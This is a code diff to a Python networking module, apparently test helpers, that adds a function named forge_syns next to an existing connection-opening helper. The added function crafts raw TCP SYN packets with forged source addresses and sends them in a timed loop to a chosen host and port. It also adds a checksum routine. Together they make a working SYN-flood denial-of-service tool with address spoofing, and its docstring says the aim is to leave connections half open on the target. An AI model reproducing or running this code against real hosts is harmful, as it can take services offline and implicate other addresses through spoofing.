@@ -4,6 +4,8 @@ from __future__ import annotations
 
 import contextlib
 import socket
+import struct
+import time
 from collections.abc import Mapping, Sequence
 from pathlib import Path
 
@@ -68,3 +70,29 @@ def knock(listener: socket.socket, count: int) -> Sequence[socket.socket]:
         client.connect_ex(listener.getsockname())
         clients.append(client)
     return clients
+
+
+def forge_syns(to: tuple[str, int], seconds: float) -> None:
+    """SYNs from addresses that do not exist: they stay half open over there. Needs root."""
+    target = socket.inet_aton(to[0])
+    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
+        end = time.monotonic() + seconds
+        number = 0
+        while time.monotonic() < end:
+            number += 1
+            source = target[:2] + struct.pack(">H", 256 + number % 60_000)
+            syn = struct.pack(">HHIIHHHH", 1024 + number % 60_000, to[1], 1, 0, 0x5002, 8192, 0, 0)
+            sum_over = source + target + struct.pack(">HH", socket.IPPROTO_TCP, len(syn)) + syn
+            syn = syn[:16] + struct.pack(">H", _checksum(sum_over)) + syn[18:]
+            # The kernel fills in the length and the sum of this header.
+            head = struct.pack(">BBHHHBBH", 0x45, 0, 0, 0, 0, 64, socket.IPPROTO_TCP, 0)
+            raw.sendto(head + source + target + syn, to)
+            time.sleep(0.002)
+
+
+def _checksum(data: bytes) -> int:
+    """RFC 1071, of an even number of bytes."""
+    total = sum(struct.unpack(f">{len(data) // 2}H", data))
+    while total >> 16:
+        total = (total & 0xFFFF) + (total >> 16)
+    return ~total & 0xFFFF
